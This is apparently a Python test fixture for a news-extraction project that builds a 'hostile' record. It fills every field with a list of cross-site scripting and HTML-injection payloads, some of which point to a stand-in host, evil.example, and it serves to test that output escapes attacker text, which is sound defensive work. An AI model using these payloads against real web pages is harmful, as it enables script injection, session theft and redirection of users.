"""A record whose every field was written by an attacker, for tests of what is shown."""

from __future__ import annotations

from dataclasses import replace
from datetime import date
from itertools import product

from made import findings

from dateline.model.findings import Actor, ActorUse, DateUse, Findings, Grain, How, Place, PlaceUse
from dateline.model.report import Dateline, Problem
from dateline.model.text import Paragraph, ParagraphRole, Repair, RepairKind, Span, Text

_ACTS = (
    "<script>fired()</script>",
    "<img src=x onerror=fired()>",
    "<svg onload=fired()>",
    "<svg><script>fired()</script></svg>",
    "<iframe srcdoc='<script>parent.fired()</script>'></iframe>",
    "<iframe src=javascript:fired()></iframe>",
    "<body onload=fired()>",
    "<details open ontoggle=fired()>x</details>",
    "<video><source onerror=fired()></video>",
    "<input autofocus onfocus=fired()>",
    "<a href=javascript:fired()>x</a>",
    "<math><a xlink:href=javascript:fired()>x</a></math>",
    "<object data=javascript:fired()></object>",
    "<embed src=javascript:fired()>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<form action=https://evil.example/><button>x</button></form>",
    "<template><script>fired()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=fired()>'></noscript>",
    "<p style=background:url(https://evil.example/x)>x</p>",
    "<marquee onstart=fired()>x</marquee>",
    "{{ 7*7 }}{% for x in [1] %}<script>fired()</script>{% endfor %}",
    "javascript:fired()",
    "data:text/html,<script>fired()</script>",
    "&lt;script&gt;fired()&lt;/script&gt;",
    "\u003cscript\u003efired()\u003c/script\u003e",
)
_BREAKS = (
    "",
    '">',
    "'>",
    "--></title></style></script></textarea>",
    '" onmouseover=fired() x="',
    "\x00\u202e",
    "]]>",
    "`",
)
PAYLOADS = tuple(f"{before}{act}" for before, act in product(_BREAKS, _ACTS))
"""Acts behind what would end the place they stand in."""


def hostile(payloads: tuple[str, ...] = PAYLOADS) -> Findings:
    """Return findings with a statement, an event, an actor and a place for each payload, and it in each field."""
    made = findings()
    chars, spans = "", []
    for payload in payloads:
        spans.append(Span(len(chars), len(chars) + len(payload)))
        chars += payload + "\n"
    everything = " ".join(payloads[: len(_ACTS)])
    text = Text(
        chars=chars,
        body=chars,
        paragraphs=tuple(Paragraph(span=span, role=ParagraphRole.BODY) for span in spans),
        repairs=tuple(
            Repair(kind=RepairKind.ENTITY, source=span, span=span, before=payload, after=payload)
            for span, payload in zip(spans[::20], payloads[::20], strict=True)
        ),
    )
    report = replace(
        made.report,
        id=payloads[0],
        url=payloads[24],
        site=payloads[29],
        title=everything,
        bylines=payloads[:30],
        credit=payloads[31],
        dateline=Dateline(span=spans[0], place=payloads[60], agency=payloads[61], day=payloads[62]),
        text=text,
    )
    uses = [_actor(payload, span) for payload, span in zip(payloads, spans, strict=True)]
    places = [_place(number, payload, span) for number, (payload, span) in enumerate(zip(payloads, spans, strict=True))]
    return replace(
        made,
        report=report,
        actors=tuple(uses),
        places=tuple(places),
        dates=tuple(_date(payload, span) for payload, span in zip(payloads[:40], spans, strict=False)),
        statements=tuple(
            replace(
                made.statements[0],
                id=f"s{number:04}",
                content=(span,),
                cue=span,
                speaker=use,
                addressee=use,
                sentence=span,
            )
            for number, (span, use) in enumerate(zip(spans, uses, strict=True))
        ),
        events=tuple(
            replace(
                made.events[0],
                id=f"e{number:04}",
                type=payload,
                mode=payload,
                contexts=(payload,),
                trigger=span,
                actor=use,
                target=use,
                attributed_to=use.actor,
                where=places[number],
                cameo=payload,
                sentence=span,
                evidence=(span,),
            )
            for number, (span, use, payload) in enumerate(zip(spans, uses, payloads, strict=True))
        ),
        problems=tuple(Problem(room=one, code=one, detail=one) for one in payloads[:30]),
        versions=(("dateline", payloads[0]), ("model", payloads[29])),
    )


def _actor(payload: str, span: Span) -> ActorUse:
    actor = Actor(name=payload, kind=payload, country=payload, sector=payload, code=payload, basis=payload, score=0.9)
    return ActorUse(span=span, token=0, actor=actor, via=None, score=0.9)


def _place(number: int, payload: str, span: Span) -> PlaceUse:
    place = Place(
        id=number,
        name=payload,
        country=payload,
        admin1=payload,
        kind=payload,
        latitude=number % 90,
        longitude=number % 180,
    )
    return PlaceUse(span=span, token=0, place=place, runner_up=place, score=0.8)


def _date(payload: str, span: Span) -> DateUse:
    return DateUse(
        span=span,
        value=payload,
        grain=Grain.DAY,
        first=date(2021, 6, 1),
        last=date(2021, 6, 1),
        how=How.STATED,
        score=0.9,
    )
